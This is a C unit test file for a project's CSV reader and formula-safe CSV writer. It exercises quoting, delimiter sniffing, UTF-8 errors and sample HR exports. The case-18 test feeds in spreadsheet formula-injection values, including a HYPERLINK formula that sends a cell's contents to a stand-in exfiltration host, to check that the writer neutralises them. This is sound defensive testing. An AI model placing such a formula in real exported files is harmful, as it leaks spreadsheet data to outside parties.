/*
 * test_csv.c: the RFC 4180 reader on every quirk HR and account exports
 * have (case 15), and the formula-safe writer cell by cell (case 18).
 * Run from the repository root (make check does).
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "rollcall/csv.h"

#define CASE15 "tests/data/cases/15-hr-csv-dialects/"

static char tmp_path[64];

/* Write len bytes to a temporary file and open it as CSV. */
static void
open_bytes(struct csv *c, const char *data, size_t len, int delim)
{
	struct errbuf err = { "" };
	FILE *fp;
	int fd;

	snprintf(tmp_path, sizeof(tmp_path), "/tmp/test_csv.XXXXXX");
	fd = mkstemp(tmp_path);
	assert_true(fd >= 0);
	fp = fdopen(fd, "wb");
	assert_non_null(fp);
	assert_int_equal(fwrite(data, 1, len, fp), len);
	assert_int_equal(fclose(fp), 0);
	assert_int_equal(csv_open(c, tmp_path, delim, &err), 0);
}

static void
open_str(struct csv *c, const char *data, int delim)
{
	open_bytes(c, data, strlen(data), delim);
}

static void
done(struct csv *c)
{
	csv_close(c);
	unlink(tmp_path);
}

/* The next record must have exactly these fields (NULL-terminated). */
static void
expect_record(struct csv *c, ...)
{
	struct errbuf err = { "" };
	const char *want;
	size_t i = 0;
	va_list ap;

	assert_int_equal(csv_next(c, &err), 1);
	va_start(ap, c);
	while ((want = va_arg(ap, const char *)) != NULL) {
		assert_true(i < c->nf);
		assert_string_equal(c->f[i].s, want);
		i++;
	}
	va_end(ap);
	assert_int_equal(c->nf, i);
}

static void
expect_end(struct csv *c)
{
	struct errbuf err = { "" };

	assert_int_equal(csv_next(c, &err), 0);
}

static void
expect_error(struct csv *c, const char *msg_tail)
{
	struct errbuf err = { "" };
	char want[256];
	int rc;

	while ((rc = csv_next(c, &err)) == 1)
		;
	assert_int_equal(rc, -1);
	snprintf(want, sizeof(want), "%s:%s", tmp_path, msg_tail);
	assert_string_equal(err.msg, want);
}

static void
test_quoted_fields(void **state)
{
	struct csv c;

	(void)state;
	open_str(&c, "a,b,c\n\"x, y\",\"say \"\"hi\"\"\",\"\"\n", 0);
	expect_record(&c, "a", "b", "c", NULL);
	expect_record(&c, "x, y", "say \"hi\"", "", NULL);
	expect_end(&c);
	done(&c);
}

static void
test_line_breaks_inside_quotes_kept(void **state)
{
	struct csv c;

	(void)state;
	open_str(&c, "a,b\r\n\"1\r\n2\",\"3\n4\"\r\n\"5\r6\",x\r\n", 0);
	expect_record(&c, "a", "b", NULL);
	expect_record(&c, "1\r\n2", "3\n4", NULL);
	assert_int_equal(c.record_line, 2);
	expect_record(&c, "5\r6", "x", NULL);
	assert_int_equal(c.record_line, 5);
	expect_end(&c);
	done(&c);
}

static void
test_crlf_and_lf_record_ends(void **state)
{
	struct csv c;

	(void)state;
	open_str(&c, "a,b\r\n1,2\n3,4\r\n", 0);
	expect_record(&c, "a", "b", NULL);
	expect_record(&c, "1", "2", NULL);
	expect_record(&c, "3", "4", NULL);
	expect_end(&c);
	done(&c);
}

static void
test_no_final_newline_and_empty_last_field(void **state)
{
	struct csv c;

	(void)state;
	open_str(&c, "a,b\n1,", 0);
	expect_record(&c, "a", "b", NULL);
	expect_record(&c, "1", "", NULL);
	expect_end(&c);
	done(&c);
}

static void
test_bom_dropped(void **state)
{
	struct csv c;

	(void)state;
	open_str(&c, "\xef\xbb\xbfid,name\n1,x\n", 0);
	expect_record(&c, "id", "name", NULL);
	assert_int_equal(c.delim, ',');
	expect_record(&c, "1", "x", NULL);
	done(&c);
}

static void
test_bom_only_file_is_empty(void **state)
{
	struct csv c;

	(void)state;
	open_str(&c, "\xef\xbb\xbf", 0);
	expect_end(&c);
	done(&c);
}

static void
test_sniff_semicolon(void **state)
{
	struct csv c;

	(void)state;
	open_str(&c, "id;name;dept\n1;Kühn, Jonas;\"A;B\"\n", 0);
	assert_int_equal(c.delim, ';');
	expect_record(&c, "id", "name", "dept", NULL);
	expect_record(&c, "1", "Kühn, Jonas", "A;B", NULL);
	done(&c);
}

static void
test_sniff_tab(void **state)
{
	struct csv c;

	(void)state;
	open_str(&c, "id\tname\tnote\n1\ta,b\tc;d\n", 0);
	assert_int_equal(c.delim, '\t');
	expect_record(&c, "id", "name", "note", NULL);
	expect_record(&c, "1", "a,b", "c;d", NULL);
	done(&c);
}

/* Delimiters inside quotes in the header do not count. */
static void
test_sniff_ignores_quoted(void **state)
{
	struct csv c;

	(void)state;
	open_str(&c, "\"a;b;c;d\",e,f\n1,2,3\n", 0);
	assert_int_equal(c.delim, ',');
	expect_record(&c, "a;b;c;d", "e", "f", NULL);
	done(&c);
}

/* A quoted header field with a line break must not end the sniff early. */
static void
test_sniff_multiline_header(void **state)
{
	struct csv c;

	(void)state;
	open_str(&c, "\"a\nb\";c;d\n1;2;3\n", 0);
	assert_int_equal(c.delim, ';');
	expect_record(&c, "a\nb", "c", "d", NULL);
	expect_record(&c, "1", "2", "3", NULL);
	assert_int_equal(c.record_line, 3);
	done(&c);
}

static void
test_given_delimiter_wins(void **state)
{
	struct csv c;

	(void)state;
	open_str(&c, "a;b,c\n", ',');
	expect_record(&c, "a;b", "c", NULL);
	done(&c);
}

static void
test_empty_lines_skipped(void **state)
{
	struct csv c;

	(void)state;
	open_str(&c, "\n\r\na,b\n\n1,2\r\n\r\n", 0);
	expect_record(&c, "a", "b", NULL);
	assert_int_equal(c.record_line, 3);
	expect_record(&c, "1", "2", NULL);
	assert_int_equal(c.record_line, 5);
	expect_end(&c);
	done(&c);
}

static void
test_columns_count_characters(void **state)
{
	struct csv c;

	(void)state;
	open_str(&c, "né,\"x\",ü\n", 0);
	expect_record(&c, "né", "x", "ü", NULL);
	assert_int_equal(c.f[0].col, 1);
	assert_int_equal(c.f[1].col, 4);
	assert_int_equal(c.f[2].col, 8);
	assert_int_equal(c.f[2].line, 1);
	done(&c);
}

static void
test_error_unterminated_quote(void **state)
{
	struct csv c;

	(void)state;
	open_str(&c, "a,b\n1,\"open\n2,3\n", 0);
	expect_error(&c, "2:3: quoted field opened here is not closed before"
	    " the end of the file");
	done(&c);
}

static void
test_error_stray_quote(void **state)
{
	struct csv c;

	(void)state;
	open_str(&c, "a,b\n1,Ngozi \"Zee\" Eze\n", 0);
	expect_error(&c, "2:9: quote inside an unquoted field (quote the whole"
	    " field and double the quote)");
	done(&c);
}

static void
test_error_text_after_closing_quote(void **state)
{
	struct csv c;

	(void)state;
	open_str(&c, "a,b\n\"x\"y,2\n", 0);
	expect_error(&c, "2:4: text after a closing quote (a quote inside a"
	    " field must be doubled)");
	done(&c);
}

static void
test_error_nul_byte(void **state)
{
	struct csv c;

	(void)state;
	open_bytes(&c, "a,b\n1,x\0y\n", 10, 0);
	expect_error(&c, "2:4: NUL byte (is this a UTF-16 file? save it as"
	    " UTF-8)");
	done(&c);
}

static void
test_error_invalid_utf8(void **state)
{
	struct csv c;

	(void)state;
	/* Windows-1252 "Müller" */
	open_str(&c, "a,b\n1,M\xfcller\n", 0);
	expect_error(&c, "2:4: invalid UTF-8 (byte 0xFC): save the file as"
	    " UTF-8");
	done(&c);
}

/* A Windows-1252 byte that looks like a UTF-8 lead: that byte, its column. */
static void
test_error_cp1252_lead_byte(void **state)
{
	struct csv c;

	(void)state;
	/* Windows-1252 "Renée": 0xE9 then 'e', not a continuation */
	open_str(&c, "Employee ID,Work Email,First Name,Status\n"
	    "E1,a@example.com,Ren\xe9" "e,Active\n", 0);
	expect_error(&c, "2:21: invalid UTF-8 (byte 0xE9): save the file as"
	    " UTF-8");
	done(&c);
	/* a 4-byte lead that fails at its third byte */
	open_str(&c, "a\nxy\xf0\x9f" "z\n", 0);
	expect_error(&c, "2:3: invalid UTF-8 (byte 0xF0): save the file as"
	    " UTF-8");
	done(&c);
}

static void
test_error_overlong_utf8(void **state)
{
	struct csv c;

	(void)state;
	open_str(&c, "a\n\xc0\xaf\n", 0);
	expect_error(&c, "2:1: invalid UTF-8 (byte 0xC0): save the file as"
	    " UTF-8");
	done(&c);
}

static void
test_error_truncated_utf8(void **state)
{
	struct csv c;

	(void)state;
	open_str(&c, "a\nx\xc3", 0);
	expect_error(&c, "2:3: invalid UTF-8 (truncated at end of file)");
	done(&c);
}

static void
test_open_missing_file(void **state)
{
	struct errbuf err = { "" };
	struct csv c;

	(void)state;
	assert_int_equal(csv_open(&c, "tests/data/inputs/nope.csv", 0, &err),
	    -1);
	assert_string_equal(err.msg, "cannot open 'tests/data/inputs/nope.csv':"
	    " No such file or directory");
}

static void
test_find_column(void **state)
{
	static const char *const email[] = { "email", "work email", NULL };
	static const char *const none[] = { "manager", NULL };
	struct csv c;

	(void)state;
	open_str(&c, "ID, Work Email ,EMAIL\n", 0);
	expect_record(&c, "ID", " Work Email ", "EMAIL", NULL);
	/* the first name of the list wins, not the first column */
	assert_int_equal(csv_find_column(&c, email), 2);
	assert_int_equal(csv_find_column(&c, email + 1), 1);
	assert_int_equal(csv_find_column(&c, none), -1);
	done(&c);
}

static void
test_case15_workday(void **state)
{
	static const char *const wemail[] = { "work email", NULL };
	struct errbuf err = { "" };
	struct csv c;
	int n = 0;

	(void)state;
	assert_int_equal(csv_open(&c, CASE15 "workday-export.csv", 0, &err),
	    0);
	assert_int_equal(csv_next(&c, &err), 1);
	assert_int_equal(c.nf, 10);
	assert_string_equal(c.f[0].s, "Employee ID");
	assert_int_equal(csv_find_column(&c, wemail), 3);
	while (csv_next(&c, &err) == 1) {
		n++;
		assert_int_equal(c.nf, 10);
		if (n == 1)
			assert_string_equal(c.f[9].s, "R&D, Platform");
		if (n == 2)
			assert_string_equal(c.f[9].s, "Ops \"Blue\" Team");
		if (n == 3)
			assert_string_equal(c.f[9].s,
			    "Finance\r\nShared Services");
		if (n == 4) {
			assert_int_equal(c.record_line, 6);
			assert_string_equal(c.f[3].s, "");
		}
		if (n == 5)
			assert_string_equal(c.f[1].s, "Sousa, Inês");
	}
	assert_int_equal(n, 5);
	assert_string_equal(err.msg, "");
	csv_close(&c);
}

static void
test_case15_bamboohr(void **state)
{
	struct errbuf err = { "" };
	struct csv c;

	(void)state;
	assert_int_equal(csv_open(&c, CASE15 "bamboohr-de.csv", 0, &err), 0);
	assert_int_equal(c.delim, ';');
	expect_record(&c, "Employee #", "Full Name", "Work Email",
	    "Employment Status", "Department", "Hire Date", "Termination Date",
	    "FTE", NULL);
	expect_record(&c, "B2001", "Jonas Kühn", "jonas.kuehn@example.com",
	    "Active", "Engineering", "01.04.2019", "", "1,0", NULL);
	expect_record(&c, "B2002", "Müller-Lüdenscheidt, Eva",
	    "eva.mueller@example.com", "Active", "Sales, DACH", "03.02.2025",
	    "", "0,8", NULL);
	expect_record(&c, "B2003", "Pauline Roux", "pauline.roux@example.com",
	    "Terminated", "Support", "15.01.2024", "31.10.2026", "0,5", NULL);
	expect_record(&c, "B2004", "Timo Ahonen", "timo.ahonen@example.com",
	    "Active", "Team; Nord", "12.10.2026", "", "1,0", NULL);
	expect_end(&c);
	csv_close(&c);
}

/* With a forced comma the ';' file collapses into one column. */
static void
test_case15_bamboohr_as_comma(void **state)
{
	struct errbuf err = { "" };
	struct csv c;

	(void)state;
	assert_int_equal(csv_open(&c, CASE15 "bamboohr-de.csv", ',', &err), 0);
	assert_int_equal(csv_next(&c, &err), 1);
	assert_int_equal(c.nf, 1);
	csv_close(&c);
}

static void
test_case15_adp(void **state)
{
	struct errbuf err = { "" };
	struct csv c;

	(void)state;
	assert_int_equal(csv_open(&c, CASE15 "adp-us.csv", 0, &err), 0);
	assert_int_equal(csv_next(&c, &err), 1);
	expect_record(&c, "000456", "Grace", "Obuya", "grace.obuya@example.com",
	    "Active", "03/04/2026", "", NULL);
	assert_int_equal(csv_next(&c, &err), 1);
	assert_int_equal(csv_next(&c, &err), 1);
	expect_end(&c);
	csv_close(&c);
}

static char *
cell(const char *value, int delim)
{
	char *out = NULL;
	size_t len = 0;
	FILE *fp = open_memstream(&out, &len);

	assert_non_null(fp);
	csv_write_cell(fp, value, delim);
	assert_int_equal(fclose(fp), 0);
	return out;
}

static void
expect_cell(const char *value, const char *want)
{
	char *got = cell(value, ',');

	assert_string_equal(got, want);
	free(got);
}

/* Case 18's expected.md, every row of its table. */
static void
test_case18_cells(void **state)
{
	(void)state;
	expect_cell("=HYPERLINK(\"https://exfil.example.invalid/?d=\"&C2,"
	    "\"Open\")", "\"'=HYPERLINK(\"\"https://exfil.example.invalid/?d="
	    "\"\"&C2,\"\"Open\"\")\"");
	expect_cell("+Contractor Liaison", "'+Contractor Liaison");
	expect_cell("=2+5", "'=2+5");
	expect_cell("-Interim- Lead", "'-Interim- Lead");
	expect_cell("@Pete", "'@Pete");
	expect_cell("@SUM(A1:A9)", "'@SUM(A1:A9)");
	expect_cell("\tOps", "'\tOps");
	expect_cell("\rFinance", "\"'\rFinance\"");
	expect_cell("Ngozi \"Zee\" Eze", "\"Ngozi \"\"Zee\"\" Eze\"");
	expect_cell("Manager, EMEA", "\"Manager, EMEA\"");
	expect_cell("=1+1", "'=1+1");
}

static void
test_write_field(void **state)
{
	char *out = NULL;
	size_t len = 0;
	FILE *fp = open_memstream(&out, &len);

	(void)state;
	csv_write_field(fp, "=plain", ',');
	putc('|', fp);
	csv_write_field(fp, "a;b", ';');
	putc('|', fp);
	csv_write_field(fp, "a;b", ',');
	putc('|', fp);
	csv_write_field(fp, "l1\nl2", ',');
	putc('|', fp);
	csv_write_field(fp, NULL, ',');
	putc('|', fp);
	csv_write_field(fp, "17", ',');
	assert_int_equal(fclose(fp), 0);
	assert_string_equal(out, "=plain|\"a;b\"|a;b|\"l1\nl2\"||17");
	free(out);
	assert_int_equal(csv_needs_defuse("-1"), 1);
	assert_int_equal(csv_needs_defuse("a=b"), 0);
	assert_int_equal(csv_needs_defuse(""), 0);
	assert_int_equal(csv_needs_defuse(NULL), 0);
}

/* What we write, we read back the same. */
static void
test_round_trip(void **state)
{
	static const char *const v[] = {
		"\rFinance", "a \"b\"", "x,y", "l1\r\nl2", "", "Kühn",
	};
	struct csv c;
	char *out = NULL;
	size_t len = 0, i;
	FILE *fp = open_memstream(&out, &len);

	(void)state;
	for (i = 0; i < ARRAY_SIZE(v); i++) {
		if (i)
			putc(',', fp);
		csv_write_field(fp, v[i], ',');
	}
	fputs("\r\n", fp);
	assert_int_equal(fclose(fp), 0);
	open_bytes(&c, out, len, ',');
	expect_record(&c, v[0], v[1], v[2], v[3], v[4], v[5], NULL);
	expect_end(&c);
	done(&c);
	free(out);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_quoted_fields),
		cmocka_unit_test(test_line_breaks_inside_quotes_kept),
		cmocka_unit_test(test_crlf_and_lf_record_ends),
		cmocka_unit_test(test_no_final_newline_and_empty_last_field),
		cmocka_unit_test(test_bom_dropped),
		cmocka_unit_test(test_bom_only_file_is_empty),
		cmocka_unit_test(test_sniff_semicolon),
		cmocka_unit_test(test_sniff_tab),
		cmocka_unit_test(test_sniff_ignores_quoted),
		cmocka_unit_test(test_sniff_multiline_header),
		cmocka_unit_test(test_given_delimiter_wins),
		cmocka_unit_test(test_empty_lines_skipped),
		cmocka_unit_test(test_columns_count_characters),
		cmocka_unit_test(test_error_unterminated_quote),
		cmocka_unit_test(test_error_stray_quote),
		cmocka_unit_test(test_error_text_after_closing_quote),
		cmocka_unit_test(test_error_nul_byte),
		cmocka_unit_test(test_error_invalid_utf8),
		cmocka_unit_test(test_error_cp1252_lead_byte),
		cmocka_unit_test(test_error_overlong_utf8),
		cmocka_unit_test(test_error_truncated_utf8),
		cmocka_unit_test(test_open_missing_file),
		cmocka_unit_test(test_find_column),
		cmocka_unit_test(test_case15_workday),
		cmocka_unit_test(test_case15_bamboohr),
		cmocka_unit_test(test_case15_bamboohr_as_comma),
		cmocka_unit_test(test_case15_adp),
		cmocka_unit_test(test_case18_cells),
		cmocka_unit_test(test_write_field),
		cmocka_unit_test(test_round_trip),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
